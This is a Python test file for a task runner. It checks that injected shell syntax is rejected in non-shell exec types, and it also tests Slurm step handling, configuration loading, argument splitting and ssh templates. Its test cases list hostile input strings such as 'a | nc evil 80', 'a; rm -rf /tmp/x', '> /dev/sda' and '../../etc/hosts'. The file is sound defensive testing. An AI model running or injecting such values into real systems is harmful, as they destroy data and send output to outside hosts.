"""Security validation stays strict for every exec type but shell (docs/command-line.md); local never starts a shell."""

from __future__ import annotations

import os
import pwd
import threading
import time
from pathlib import Path

import pytest
import yaml
from support import compile_text

from tasker.check.security import runtime_host_problem
from tasker.runners.base import Cancel
from tasker.runners.exectypes import (
    Arguments,
    ArgumentsError,
    ExecConfig,
    ExecType,
    ExecTypeError,
    ExecTypes,
    Value,
    argument_words,
    command_line,
    load_config,
    platform_key,
    render_template,
    split_arguments,
)
from tasker.runners.output import Output
from tasker.runners.process import ProcessRunner, Session
from tasker.runners.slurm import NodeTable, SlurmSteps, _query, _usable, time_limit, uses_slurm
from tasker.runners.srun import SlurmSettings, step_argv
from tasker.runners.ssh import RemoteArgv

NON_SHELL = ["local", "ssh", "pbrun", "p7s", "wwrs", "SSH"]

# (field, value, fragment of the error): each is an error for every exec type except shell.
CASES = [
    ("arguments", "test $(whoami) injection", "shell command syntax `$(whoami)`"),
    ("arguments", "a; rm -rf /tmp/x", "shell command syntax"),
    ("arguments", "run `id`", "shell command syntax"),
    ("arguments", "x && rm y", "shell command syntax"),
    ("arguments", "a | nc evil 80", "shell command syntax"),
    ("arguments", "> /dev/sda", "shell command syntax"),
    ("command", "echo;", "shell character ';'"),
    ("command", "ls|sh", "shell character '|'"),
    ("command", "$(id)", "shell command syntax"),
    ("hostname", "host;x", "shell character ';'"),
    ("hostname", "h$(id)", "shell command syntax"),
]

# Errors for every exec type, shell included.
ALWAYS = [
    ("arguments", "../../etc/hosts", "path-traversal"),
    ("arguments", "x" * 2001, "the limit is 2000"),
    ("hostname", "web1|x", "shell character '|'"),
]


def errors(field: str, value: str, exec_type: str) -> list[str]:
    fields = {"hostname": "web1", "command": "echo", "arguments": "hi", field: value}
    text = "task=0\n" + "".join(f"{k}={v}\n" for k, v in fields.items()) + f"exec={exec_type}\n"
    _wf, diags = compile_text(text)
    return [d.message for d in diags.errors]


@pytest.mark.parametrize("exec_type", NON_SHELL)
@pytest.mark.parametrize("field, value, fragment", CASES + ALWAYS)
def test_security_errors_apply_to_every_non_shell_exec_type(exec_type, field, value, fragment):
    found = errors(field, value, exec_type)
    assert any(fragment in m for m in found), found


@pytest.mark.parametrize("field, value, fragment", ALWAYS)
def test_some_errors_apply_to_shell_too(field, value, fragment):
    found = errors(field, value, "shell")
    assert any(fragment in m for m in found), found


def test_shell_relaxes_the_injection_checks_and_ssh_does_not():
    assert errors("arguments", "$(date) | tr a b", "shell") == []
    assert errors("arguments", "$(date) | tr a b", "ssh") != []


def test_the_error_says_how_the_exec_type_passes_the_text():
    _wf, diags = compile_text("task=0\nhostname=web1\ncommand=echo\narguments=$(id)\nexec=ssh\n")
    assert "exec=ssh passes it on as literal words" in diags.errors[0].help


def test_harmless_punctuation_in_ssh_arguments_is_accepted():
    assert errors("arguments", "\"a  b\" it\\'s 'x; y' a;b $HOME cost:$5 '*' a>b", "ssh") == []


# ----------------------------------------------------------------- local never starts a shell

SHELLISH = {"platforms": {"linux": {
    "local": {"binary": "/bin/sh", "command_template": ["{binary}", "-c", "{command} {arguments}"]},
    "shell": {"binary": "/bin/sh", "command_template": ["{binary}", "-c", "{command} {arguments}"]},
}}, "aliases": {"local": "shell"}}


def test_local_is_the_built_in_type_even_if_the_config_defines_or_aliases_it():
    types = ExecTypes(environ={})
    types.use_config(ExecConfig("cfg.yaml", SHELLISH))
    assert types.canonical("local") == types.canonical("LOCAL") == "local"
    assert types.argv("local", "h", "echo", "a;b 'c d' x>y") == ["echo", "a;b", "c d", "x>y"]


def test_local_passes_shell_syntax_as_literal_words(tasker):
    flow = tasker.write("task=0\nhostname=localhost\ncommand=printf\n"
                        "arguments=\"<%s>\\n\" a;b x>made-by-a-shell '*' a|b $TASKER_TEST_UNSET\nexec=local\n")
    r = tasker.run(flow, "-r")
    assert r.returncode == 0, r.stdout + r.stderr
    assert "STDOUT: <a;b>\\n<x>made-by-a-shell>\\n<*>\\n<a|b>\\n<$TASKER_TEST_UNSET>" in r.stdout
    assert not (tasker.tmp / "made-by-a-shell").exists()


# ================================================================= the slurm runner without a cluster
# argv, time limits, stream separation, stops, node checks.  Fake srun/scancel/sinfo/squeue
# scripts in a temporary directory stand in for Slurm's clients (the runner takes the other
# tools from the directory of the configured srun), so these run everywhere;
# tests/test_slurm.py runs the same code against a real cluster.
def slurm_type(srun: str = "srun", **slurm) -> ExecType:
    return ExecType("slurm", {"binary": srun, "runner": "slurm", "slurm": slurm or None})


def exec_types(spec: ExecType) -> ExecTypes:
    types = ExecTypes(environ={})
    config = ExecConfig()
    config.types["slurm"] = spec
    types.use_config(config)
    return types


def tool(folder: Path, name: str, body: str) -> Path:
    path = folder / name
    path.write_text("#!/bin/sh\n" + body)
    path.chmod(0o755)
    return path


class Log:
    def __init__(self) -> None:
        self.lines: list[str] = []

    def debug(self, message: str) -> None:
        self.lines.append("DEBUG " + message)

    def info(self, message: str) -> None:
        self.lines.append("INFO " + message)

    def warn(self, message: str) -> None:
        self.lines.append("WARN " + message)


# ----------------------------------------------------------------- the command line


def test_a_named_node_is_pinned_and_the_words_are_split_as_for_local():
    argv = step_argv(slurm_type(), "node7", "printf", split_arguments("'<%s>' \"a  b\" c\\;d"))
    assert argv == ["srun", "--quiet", "--nodes=1", "--ntasks=1", "--input=none", "--nodelist=node7",
                    "--", "printf", "<%s>", "a  b", "c;d"]


@pytest.mark.parametrize("host", ["any", "ANY", "", "  "])
def test_any_or_no_host_lets_slurm_choose(host):
    assert not any(a.startswith("--nodelist") for a in step_argv(slurm_type(), host, "true", []))


def test_partition_account_and_options_come_from_the_configuration():
    spec = slurm_type("/opt/slurm/bin/srun", partition="short", account="proj1", options=["--mem=1G", "--qos=low"])
    argv = step_argv(spec, "any", "hostname", [])
    assert argv == ["/opt/slurm/bin/srun", "--quiet", "--nodes=1", "--ntasks=1", "--input=none",
                    "--partition=short", "--account=proj1", "--mem=1G", "--qos=low", "--", "hostname"]


def test_the_exec_type_builds_the_srun_command_line():
    types = exec_types(slurm_type())
    assert types.argv("slurm", "n1", "echo", "a b")[-4:] == ["--", "echo", "a", "b"]


@pytest.mark.parametrize(("seconds", "minutes"), [(5, 1), (60, 1), (61, 2), (300, 5), (1000, 17)])
def test_the_time_limit_is_the_timeout_in_minutes_rounded_up(seconds, minutes):
    assert time_limit(seconds) == minutes


# ----------------------------------------------------------------- streams and stops


def test_a_relaying_clients_own_messages_stay_out_of_the_commands_stderr(tmp_path):
    client = tool(tmp_path, "client", "echo out; echo 'command err' >&3; echo 'client: Exited with exit code 3' >&2\n"
                                      "exit 3\n")
    messages = (tmp_path / "messages").open("w+b")
    result = ProcessRunner().run([str(client)], 30, Cancel(), messages_fd=messages.fileno())
    messages.seek(0)
    assert (result.exit_code, result.stdout.text(), result.stderr.text()) == (3, "out\n", "command err\n")
    assert messages.read() == b"client: Exited with exit code 3\n"


def test_on_timeout_the_stop_hook_runs_first_and_the_client_may_end_by_itself(tmp_path):
    stopped = tmp_path / "stopped"
    client = tool(tmp_path, "client", f"trap 'echo signalled >> {tmp_path}/signals' TERM\n"
                                      f"while [ ! -f {stopped} ]; do sleep 0.05; done\necho ended\n")
    calls = []

    def on_stop(timed_out: bool) -> None:
        calls.append(timed_out)
        stopped.write_text("")

    result = ProcessRunner().run([str(client)], 0.5, Cancel(), on_stop=on_stop, stop_grace=60)
    assert calls == [True]
    assert result.timed_out and result.exit_code == 124
    assert result.stdout.text() == "ended\n"              # it ended by itself: no signal was needed
    assert not (tmp_path / "signals").exists()


def test_a_client_that_does_not_end_after_the_stop_hook_is_killed_after_the_grace(tmp_path):
    client = tool(tmp_path, "client", "exec sleep 300\n")
    result = ProcessRunner().run([str(client)], 0.5, Cancel(), on_stop=lambda _t: None, stop_grace=0.5)
    assert result.timed_out and result.exit_code == 124


def cancel_once_exists(path: Path, cancel: Cancel) -> None:
    """Set ``cancel`` (as SIGTERM would) from a thread once ``path`` exists: the child has started."""
    def watch() -> None:
        deadline = time.monotonic() + 60
        while not path.exists() and time.monotonic() < deadline:
            time.sleep(0.02)
        cancel.set(15)

    threading.Thread(target=watch, daemon=True).start()


def test_a_cancel_runs_the_stop_hook_with_timed_out_false(tmp_path):
    started, stopped = tmp_path / "started", tmp_path / "stopped"
    client = tool(tmp_path, "client", f"touch {started}\nwhile [ ! -f {stopped} ]; do sleep 0.05; done\n")
    cancel = Cancel()
    calls = []

    cancel_once_exists(started, cancel)
    result = ProcessRunner().run([str(client)], 120, cancel,
                                 on_stop=lambda t: (calls.append(t), stopped.write_text("")), stop_grace=60)
    assert calls == [False]
    assert not result.timed_out and result.exit_code == 0


# ----------------------------------------------------------------- steps with fake Slurm clients


@pytest.fixture
def fake_slurm(tmp_path):
    """A directory with fake srun and scancel: srun records its argv, then runs the command after
    ``--`` (stderr to fd 3) unless told to wait for scancel; scancel records its argv."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    tool(bin_dir, "srun", f"""printf '%s\\n' "$@" > {tmp_path}/srun.argv
echo "SLURM_EXIT_ERROR=$SLURM_EXIT_ERROR" >> {tmp_path}/srun.argv
while [ "$1" != "--" ]; do shift; done; shift
if [ "$1" = wait-for-scancel ]; then
    while [ ! -f {tmp_path}/scancelled ]; do sleep 0.05; done
    echo "srun: error: node: task 0: Killed" >&2
    exit 137
fi
if [ "$1" = fail ]; then echo "srun: error: Unable to allocate resources: Invalid partition" >&2; exit 255; fi
"$@" 2>&3
rc=$?
[ $rc = 0 ] || echo "srun: error: node: task 0: Exited with exit code $rc" >&2
exit $rc
""")
    tool(bin_dir, "scancel", f"""echo "$@" >> {tmp_path}/scancel.calls
touch {tmp_path}/scancelled
""")
    return bin_dir


def steps_for(bin_dir: Path, log=None) -> SlurmSteps:
    return SlurmSteps(ProcessRunner(), exec_types(slurm_type(str(bin_dir / "srun"))), log, run_id="cafe0001")


def test_a_step_has_a_unique_job_name_a_time_limit_and_the_commands_own_streams(fake_slurm, tmp_path):
    log = Log()
    steps = steps_for(fake_slurm, log)
    argv = step_argv(steps.exec_types.config.types["slurm"], "n1", "sh", ["-c", "echo out; echo err >&2; exit 3"])
    first = steps.run("slurm", argv, lambda: 120.0, Cancel(), "4")
    assert (first.exit_code, first.stdout.text(), first.stderr.text()) == (3, "out\n", "err\n")
    recorded = (tmp_path / "srun.argv").read_text().splitlines()
    assert recorded[:4] == ["--job-name=tasker-cafe0001-4-1", "--time=2", "--error=/dev/fd/3", "--quiet"]
    assert recorded[-1] == "SLURM_EXIT_ERROR=255"
    assert "DEBUG Task 4: srun: error: node: task 0: Exited with exit code 3" in log.lines
    steps.run("slurm", argv, 120.0, Cancel(), "4")
    assert (tmp_path / "srun.argv").read_text().startswith("--job-name=tasker-cafe0001-4-2\n")
    assert not (tmp_path / "scancel.calls").exists()     # steps that end by themselves are not cancelled
    assert steps.job_name("1-110003 [node7]") == "tasker-cafe0001-1-110003-3"


def test_when_srun_itself_fails_its_message_is_the_tasks_stderr(fake_slurm):
    log = Log()
    steps = steps_for(fake_slurm, log)
    argv = step_argv(steps.exec_types.config.types["slurm"], "any", "fail", [])
    result = steps.run("slurm", argv, 60.0, Cancel(), "0")
    assert result.exit_code == 255
    assert result.stderr.text() == "srun: error: Unable to allocate resources: Invalid partition\n"
    assert any(line.startswith("WARN Task 0: srun: error: Unable") for line in log.lines)


def test_a_timeout_sends_sigkill_through_scancel_then_cancels_the_job(fake_slurm, tmp_path):
    log = Log()
    steps = steps_for(fake_slurm, log)
    argv = step_argv(steps.exec_types.config.types["slurm"], "n1", "wait-for-scancel", [])
    result = steps.run("slurm", argv, 0.5, Cancel(), "2")
    assert result.timed_out and result.exit_code == 124
    assert result.stderr.text() == "\nProcess killed after timeout of 0.5 seconds"
    calls = (tmp_path / "scancel.calls").read_text().splitlines()
    assert [c.split(" --user=")[0] for c in calls] == ["--quiet --signal=KILL --name=tasker-cafe0001-2-1",
                                                        "--quiet --name=tasker-cafe0001-2-1",
                                                        "--quiet --name=tasker-cafe0001-2-1"]
    assert "DEBUG Task 2: sent SIGKILL to Slurm job tasker-cafe0001-2-1" in log.lines
    # srun gets the grace to see its step end and say so, rather than being killed with scancel
    assert "DEBUG Task 2: srun: error: node: task 0: Killed" in log.lines


def test_leftovers_of_an_earlier_attempt_are_cancelled_by_name_prefix(fake_slurm, tmp_path):
    tool(fake_slurm, "squeue", "printf '11|tasker-cafe0001-3-1\\n12|tasker-beef0002-3-1\\n13|tasker-cafe0001-5-2\\n'\n")
    log = Log()
    assert steps_for(fake_slurm, log).cancel_leftovers("cafe0001") == 2
    calls = (tmp_path / "scancel.calls").read_text().split()
    assert [c for c in calls if c.isdigit()] == ["11", "13"]
    assert any("Cancelled 2 Slurm job(s)" in line and ": 11, 13" in line for line in log.lines)


# ----------------------------------------------------------------- host validation


@pytest.mark.parametrize(("state", "usable"), [("idle", True), ("mix", True), ("alloc", True), ("idle~", True),
                                               ("idle*", False), ("down", False), ("down*", False),
                                               ("drain", False), ("drng", False), ("maint", False)])
def test_node_states_that_take_steps(state, usable):
    assert _usable(state) is usable


def test_node_checks_read_sinfo(fake_slurm):
    tool(fake_slurm, "sinfo", "printf 'n1|idle|batch\\nn2|drain|batch\\nn3|mix|gpu\\nn1|idle|gpu\\n'\n")
    table = NodeTable()
    spec = slurm_type(str(fake_slurm / "srun"))
    assert table.check(spec, "n1") is None
    assert table.check(spec, "any") is None
    assert table.check(spec, "nx") == ("dns", "not a node of the Slurm cluster (sinfo does not list it)")
    assert table.check(spec, "n2") == ("connection", "node is not up (sinfo state: drain)")
    gpu = slurm_type(str(fake_slurm / "srun"), partition="gpu")
    assert table.check(gpu, "n3") is None
    assert table.check(gpu, "n2")[0] == "connection" and "not in partition 'gpu'" in table.check(gpu, "n2")[1]


def test_a_cluster_that_does_not_answer_fails_every_node_as_a_connection_problem(fake_slurm):
    tool(fake_slurm, "sinfo", "echo 'slurm_load_partitions: Unable to contact slurm controller' >&2; exit 1\n")
    kind, detail = NodeTable().check(slurm_type(str(fake_slurm / "srun")), "any")
    assert kind == "connection" and "Unable to contact slurm controller" in detail


# ================================================================= exec types: configuration, words, templates
# In-process checks of tasker.runners.exectypes that the end-to-end tests reach only through
# a subprocess: what a configuration file yields, how arguments split, how templates fill.

LINUX_TYPES = {
    "Remote": {"binary": "rsh"},                                            # binary only: the default template
    "templated": {"command_template": ["runner", "{hostname}", "{command}"]},  # template only
    "noted": {"description": "neither binary nor template: not an exec type"},
    "default_exec_type": "remote",
    "default_timeout": 40,
    "default_validation_timeout": 7,
}


def write_config(tmp_path: Path, text: str) -> str:
    path = tmp_path / "types.yaml"
    path.write_text(text, encoding="utf-8")
    return str(path)


def test_a_configuration_file_yields_its_platforms_types_defaults_aliases_and_hooks(tmp_path):
    data = {"platforms": {"linux": LINUX_TYPES, "darwin": {"mac": {"binary": "m"}}},
            "aliases": {"r": "remote"}, "host_validation": {"resolve": {"command": ["x"]}}}
    path = write_config(tmp_path, yaml.safe_dump(data))
    config = load_config(path, ("first", path))
    assert (config.path, config.searched) == (path, ("first", path))
    assert sorted(config.types) == ["remote", "templated"]
    assert config.types["remote"].name == "remote"
    assert config.types["remote"].template == ["{binary}", "{command}", "{arguments_split}"]
    assert config.types["templated"].binary == ""
    assert (config.default_exec_type, config.default_timeout, config.default_validation_timeout) == ("remote", 40, 7)
    assert config.aliases == {"r": "remote"}
    assert config.hooks == {"resolve": {"command": ["x"]}}
    assert config.names() == ["local", "remote", "templated"]


def test_a_configuration_without_hooks_or_platforms_reads_as_empty():
    assert ExecConfig("c.yaml", {"platforms": {"linux": {}}, "host_validation": None}).hooks == {}
    aliases_only = ExecConfig("c.yaml", {"aliases": {"a": "b"}})
    assert (aliases_only.types, aliases_only.aliases) == ({}, {"a": "b"})


@pytest.mark.parametrize(("platform", "key"), [("linux", "linux"), ("win32", "windows"), ("cygwin", "linux"),
                                               ("darwin", "darwin"), ("darwin2", "linux")])
def test_the_platform_section_is_chosen_by_the_running_system(monkeypatch, platform, key):
    monkeypatch.setattr("sys.platform", platform)
    assert platform_key() == key
    config = ExecConfig("c.yaml", {"platforms": {key: {"only": {"binary": "x"}}}})
    assert list(config.types) == ["only"]


@pytest.mark.parametrize(("text", "problem"), [
    ("platforms: [unclosed\n", "Warning: Configuration loading issues detected: {path}: while parsing"),
    ("- platforms\n", "Warning: Configuration loading issues detected: {path}: Config file must contain "
                      "'platforms' key\nOnly 'local' execution type will be available."),
    ("aliases: {}\n", "Warning: Configuration loading issues detected: {path}: Config file must contain "
                      "'platforms' key\nOnly 'local' execution type will be available."),
])
def test_a_broken_configuration_warns_and_leaves_only_local(tmp_path, capsys, text, problem):
    path = write_config(tmp_path, text)
    warnings: list[str] = []
    config = load_config(path, ("a", path), warnings.append)
    assert (config.path, config.searched, config.types) == (None, ("a", path), {})
    assert len(warnings) == 1 and warnings[0].startswith(problem.format(path=path)), warnings
    assert warnings[0].endswith("\nOnly 'local' execution type will be available.")
    load_config(path, ("a", path))                   # without a warn function: on stderr
    assert capsys.readouterr().err == warnings[0] + "\n"


def test_a_missing_or_unreadable_configuration_warns_and_keeps_the_searched_places(tmp_path):
    warnings: list[str] = []
    missing = str(tmp_path / "nope.yaml")
    config = load_config(missing, ("x", missing), warnings.append)
    assert (config.path, config.searched, config.types) == (None, ("x", missing), {})
    assert warnings == [f"Warning: Configuration loading issues detected: {missing}: [Errno 2] No such file or "
                        f"directory: '{missing}'\nOnly 'local' execution type will be available."]
    assert load_config(None, ("x", "y")).searched == ("x", "y")


def test_an_unknown_exec_type_names_the_known_ones_and_where_the_configuration_came_from():
    types = ExecTypes(environ={})
    types.use_config(ExecConfig(None, None, ("/etc/a.yaml", "./cfg/b.yaml")))
    with pytest.raises(ExecTypeError) as err:
        types.argv("ssh", "h", "true", "")
    assert str(err.value) == ("exec type 'ssh' is not configured (available: local; config: no configuration "
                              "file found (searched: /etc/a.yaml, ./cfg/b.yaml))")
    types.use_config(ExecConfig("/etc/t.yaml", {"platforms": {"linux": {"p7s": {"binary": "p"},
                                                                         "pbrun": {"binary": "q"}}}}))
    assert types.unknown_message("ssh") == ("exec type 'ssh' is not configured (available: local, p7s, pbrun; "
                                            "config: /etc/t.yaml)")


def test_an_exec_types_fields_come_from_its_own_keys():
    full = ExecType("s", {"binary": "srun", "runner": " Slurm ", "slurm": {"partition": "p"},
                          "reuse_connections": True, "stop_remote": True, "timeout": 9,
                          "validation_test": {"command": "true"}})
    assert (full.name, full.binary, full.runner, full.slurm) == ("s", "srun", "slurm", {"partition": "p"})
    assert (full.reuse_connections, full.stop_remote, full.timeout) == (True, True, 9)
    assert full.validation_test == {"command": "true"}
    bare = ExecType("b", {})
    assert (bare.binary, bare.runner, bare.slurm, bare.reuse_connections, bare.stop_remote) == ("", "", None,
                                                                                              False, False)
    # only a real YAML true switches the ssh services on
    assert not ExecType("y", {"reuse_connections": "yes", "stop_remote": 1}).reuse_connections
    assert not ExecType("y", {"reuse_connections": "yes", "stop_remote": 1}).stop_remote


def test_the_default_template_is_binary_command_and_split_arguments():
    assert render_template(ExecType("r", {"binary": "rsh"}), "h", "echo", "a 'b c'") == ["rsh", "echo", "a", "b c"]


# ----------------------------------------------------------------- word splitting


@pytest.mark.parametrize(("text", "words"), [
    ("a\\ b c", ["a b", "c"]),                       # a backslash alone takes the careful path
    (" 'a'  b ", ["a", "b"]),                        # blanks around quoted words make no empty words
    ("'a' ", ["a"]),
    ('"a\\"b" "c\\\\d" "e\\nf"', ['a"b', "c\\d", "e\\nf"]),   # only \" and \\ escape inside double quotes
    ("'a'b\"c\"\\d", ["abcd"]),
])
def test_arguments_split_like_a_posix_shell(text, words):
    assert split_arguments(text) == words
    assert argument_words(text, []) == words


@pytest.mark.parametrize(("text", "problem"), [
    ("a\\", "cannot split arguments 'a\\\\': No escaped character"),
    ("a 'b", "cannot split arguments \"a 'b\": No closing quotation"),
    ('"a\\"', "cannot split arguments '\"a\\\\\"': No closing quotation"),
])
def test_unsplittable_arguments_say_why(text, problem):
    with pytest.raises(ArgumentsError) as err:
        split_arguments(text)
    assert str(err.value) == problem


# ----------------------------------------------------------------- timeouts


def test_timeout_warnings_name_the_value_and_whole_numbers_with_a_sign_are_numbers():
    types = ExecTypes(environ={})
    types.use_config(ExecConfig())
    warnings: list[str] = []
    assert types.timeout(None, "local", warnings.append) == 300.0      # nothing configured: 300 s
    assert types.timeout("+30", "local", warnings.append) == 30.0
    assert types.timeout("5", "local", warnings.append) == 5.0         # the limits themselves are inside
    assert types.timeout("1000", "local", warnings.append) == 1000.0
    assert warnings == []
    assert types.timeout("X30", "local", warnings.append) == 300.0
    assert types.timeout("4", "local", warnings.append) == 5.0
    assert types.timeout("1001", "local", warnings.append) == 1000.0
    assert warnings == ["timeout 'X30' is not a whole number; using the default",
                        "timeout 4 s is outside 5..1000; using 5 s",
                        "timeout 1001 s is outside 5..1000; using 1000 s"]


def test_a_yaml_boolean_is_not_a_timeout():
    types = ExecTypes(environ={"TASK_EXECUTOR_TIMEOUT": "70"})
    types.use_config(ExecConfig("c.yaml", {"platforms": {"linux": {"t": {"binary": "t", "timeout": True}}}}))
    assert types.timeout(None, "t") == 70.0


# ----------------------------------------------------------------- templates and remote argv

SSH_TEMPLATE = ["{binary}", "-T", "-o", "BatchMode=yes", "{hostname}", "{command_line}"]


def remote_type(template=SSH_TEMPLATE, **keys) -> ExecType:
    return ExecType("rssh", {"binary": "ssh", "command_template": template, **keys})


def test_result_values_keep_their_words_in_command_line_and_arguments_split():
    types = ExecTypes(environ={})
    types.use_config(ExecConfig("c.yaml", {"platforms": {"linux": {
        "line": {"binary": "ssh", "command_template": ["{binary}", "{hostname}", "{command_line}", "{command_line}"]},
        "split": {"binary": "run", "command_template": ["{binary}", "{arguments_split}", "--end"]},
    }}}))
    arguments = Arguments(["x ", Value("it's")])     # a value with a quote in it is still one word
    assert types.argv("line", "h", "echo", arguments) == ["ssh", "h", "echo x 'it'\"'\"'s'", "echo x 'it'\"'\"'s'"]
    assert types.argv("split", "h", "echo", arguments) == ["run", "x", "it's", "--end"]
    assert command_line("echo", "ignored", ["a b"]) == "echo 'a b'"


@pytest.mark.parametrize(("part", "problem"), [
    ("{", "exec type 'bad': bad command_template part '{': Single '{' encountered in format string"),
    ("{0}", "exec type 'bad': bad command_template part '{0}': "),
])
def test_a_broken_template_part_is_named(part, problem):
    with pytest.raises(ExecTypeError) as err:
        render_template(ExecType("bad", {"binary": "b", "command_template": ["{binary}", part]}), "h", "c", "")
    assert str(err.value).startswith(problem)


@pytest.mark.parametrize(("keys", "reuse", "stop"), [
    ({"reuse_connections": True}, True, False),
    ({"stop_remote": True}, False, True),
    ({"reuse_connections": True, "stop_remote": True}, True, True),
])
def test_ssh_services_mark_where_the_host_and_the_command_line_are(keys, reuse, stop):
    argv = render_template(remote_type(**keys), "web1", "echo", "a b")
    assert isinstance(argv, RemoteArgv)
    assert list(argv) == ["ssh", "-T", "-o", "BatchMode=yes", "web1", "echo a b"]
    assert (argv.exec_type, argv.host_at, argv.line_at, argv.host) == ("rssh", 4, 5, "web1")
    assert (argv.reuse, argv.stop) == (reuse, stop)
    assert argv.key() == ("rssh", "ssh", "-T", "-o", "BatchMode=yes", "web1")


def test_without_the_services_or_in_shapes_they_do_not_understand_the_argv_is_plain():
    assert type(render_template(remote_type(), "h", "c", "")) is list
    for template in (["{binary}", "{command}", "{command_line}"],                 # no host
                     ["{binary}", "{hostname}", "{command}", "{arguments_split}"]):  # words, not one line
        argv = render_template(remote_type(template, reuse_connections=True, stop_remote=True), "h", "c", "a")
        assert type(argv) is list


def test_without_a_command_line_the_remote_command_cannot_be_stopped():
    argv = render_template(remote_type(["{binary}", "-N", "{hostname}", "{command}"], reuse_connections=True,
                                       stop_remote=True), "h", "c", "")
    assert (argv.host_at, argv.line_at, argv.reuse, argv.stop) == (2, -1, True, False)
    first = RemoteArgv(["ssh", "{cmd}", "h"], exec_type="t", host_at=2, line_at=1, reuse=False, stop=True)
    assert first.stop                                # a command line right after the program counts


def test_stop_remote_refuses_a_template_that_takes_sshs_stdin_away():
    with pytest.raises(ExecTypeError) as err:
        render_template(remote_type(["{binary}", "-n", "{hostname}", "{command_line}"], stop_remote=True), "h", "c", "")
    assert str(err.value) == ("exec type 'rssh': stop_remote needs ssh's standard input, but command_template "
                              "passes -n: remove -n (the remote command still reads /dev/null)")


@pytest.mark.parametrize(("options", "reuse"), [
    (["-S", "/tmp/sock"], False),
    (["-o", "ControlPath=/tmp/%C"], False),
    (["-o", "control path /tmp/x"], False),
    (["-s"], True),                                  # -s (subsystem) is not -S
    (["-o", "ControlMaster=auto"], True),
])
def test_a_control_socket_chosen_by_the_template_turns_reuse_off(options, reuse):
    template = ["{binary}", *options, "{hostname}", "{command_line}"]
    assert render_template(remote_type(template, reuse_connections=True), "h", "c", "").reuse is reuse


# ----------------------------------------------------------------- slurm: settings, names, messages, leftovers


@pytest.mark.parametrize(("keys", "problem"), [
    ({"slurm": "short"}, "exec type 'slurm': 'slurm' must be a mapping (partition, account, options)"),
    ({"slurm": {"options": "--mem=1G"}}, "exec type 'slurm': slurm options must be a list of srun arguments"),
])
def test_a_broken_slurm_section_is_an_exec_type_error(keys, problem):
    spec = ExecType("slurm", {"binary": "srun", "runner": "slurm", **keys})
    with pytest.raises(ExecTypeError) as err:
        step_argv(spec, "any", "true", [])
    assert str(err.value) == problem
    assert NodeTable().check(spec, "n1") == ("connection", problem)


def test_slurm_settings_are_trimmed_and_the_other_tools_sit_next_to_srun():
    spec = ExecType("slurm", {"runner": "slurm", "slurm": {"partition": " p1 ", "account": " ", "options": [5]}})
    assert step_argv(spec, " n1 ", "true", []) == ["srun", "--quiet", "--nodes=1", "--ntasks=1", "--input=none",
                                                   "--nodelist=n1", "--partition=p1", "5", "--", "true"]
    assert SlurmSettings(spec).tool("scancel") == "scancel"
    assert SlurmSettings(slurm_type("/opt/bin/srun")).tool("sinfo") == "/opt/bin/sinfo"


def test_only_slurm_types_other_than_local_are_handled_by_the_step_runner():
    types = exec_types(slurm_type())
    types.config.types["local"] = slurm_type()
    types.config.types["plain"] = ExecType("plain", {"binary": "x"})
    steps = SlurmSteps(ProcessRunner(), types, run_id="r1")
    assert [steps.handles(name) for name in ("slurm", "local", "plain", "unknown")] == [True, False, False, False]


@pytest.mark.parametrize(("label", "task"), [("5.2", "5.2"), ("", "task"), ("a/b;c d", "abc"), ("x" * 50, "x" * 40),
                                          ("5 [node a]", "5")])
def test_job_names_keep_only_safe_characters_of_the_label(label, task):
    steps = SlurmSteps(ProcessRunner(), exec_types(slurm_type()), run_id="r1")
    assert steps.job_name(label) == f"tasker-r1-{task}-1"


def test_a_run_id_is_made_when_none_is_given_and_the_exit_code_setting_reaches_srun():
    steps = SlurmSteps(ProcessRunner(env={}), exec_types(slurm_type()))
    assert len(steps.run_id) == 8 and int(steps.run_id, 16) >= 0
    assert steps.runner.env == {"SLURM_EXIT_ERROR": "255"}
    session = Session()
    as_bytes = SlurmSteps(ProcessRunner(session, env={b"PATH": b"/bin"}), exec_types(slurm_type()))
    assert as_bytes.runner.session is session        # large outputs spill where the run cleans up
    assert as_bytes.runner.env == {b"PATH": b"/bin", b"SLURM_EXIT_ERROR": b"255"}


def test_a_missing_srun_fails_the_task_with_127(tmp_path):
    steps = steps_for(tmp_path)                      # no srun in the directory
    argv = step_argv(steps.exec_types.config.types["slurm"], "n1", "true", [])
    result = steps.run("slurm", argv, 60.0, Cancel(), "1")
    assert (result.exit_code, result.not_found) == (127, False)


def test_undecodable_srun_messages_are_read_with_replacement_characters(fake_slurm):
    tool(fake_slurm, "srun", "printf 'srun: error: bad \\377 name\\n' >&2; exit 255\n")
    steps = steps_for(fake_slurm)
    argv = step_argv(steps.exec_types.config.types["slurm"], "any", "true", [])
    assert steps.run("slurm", argv, 60.0, Cancel(), "0").stderr.text() == "srun: error: bad \ufffd name\n"


def test_srun_messages_of_a_stopped_step_or_beside_output_are_not_its_stderr(fake_slurm):
    log = Log()
    steps = steps_for(fake_slurm, log)
    argv = step_argv(steps.exec_types.config.types["slurm"], "n1", "sh", ["-c", "echo out; exit 255"])
    result = steps.run("slurm", argv, 60.0, Cancel(), "6")
    assert (result.exit_code, result.stdout.text(), result.stderr.text()) == (255, "out\n", "")
    assert "WARN Task 6: srun: error: node: task 0: Exited with exit code 255" in log.lines
    assert "DEBUG Task 6: Slurm job tasker-cafe0001-6-1, time limit 1 min" in log.lines
    result.stderr = Output("")
    stopped = steps.settle(result, "srun: Job step aborted\n", "6", stopped=True)
    assert stopped.stderr.text() == "" and log.lines[-1] == "DEBUG Task 6: srun: Job step aborted"
    assert steps.settle(result, "  \n", "6", stopped=False) is result and len(log.lines) == 3


def test_a_cancelled_step_is_cancelled_on_the_cluster_and_scancel_problems_are_logged(fake_slurm, tmp_path):
    started = tmp_path / "started"
    tool(fake_slurm, "srun", f"touch {started}\nwhile [ ! -f {tmp_path}/scancelled ]; do sleep 0.05; done\n"
                             "echo 'srun: Job step aborted' >&2; exit 255\n")
    log = Log()
    steps = steps_for(fake_slurm, log)
    cancel = Cancel()

    cancel_once_exists(started, cancel)
    argv = step_argv(steps.exec_types.config.types["slurm"], "n1", "true", [])
    result = steps.run("slurm", argv, 120.0, cancel, "3")
    assert (result.exit_code, result.stderr.text()) == (255, "")    # srun's words about a stop: only logged
    assert "DEBUG Task 3: srun: Job step aborted" in log.lines
    calls = (tmp_path / "scancel.calls").read_text().splitlines()
    user = f" --user={pwd.getpwuid(os.getuid()).pw_name}"
    assert calls == [f"--quiet --name=tasker-cafe0001-3-1{user}"] * 2    # no SIGKILL: it did not time out
    assert log.lines.count("DEBUG Task 3: cancelled Slurm job tasker-cafe0001-3-1") == 2
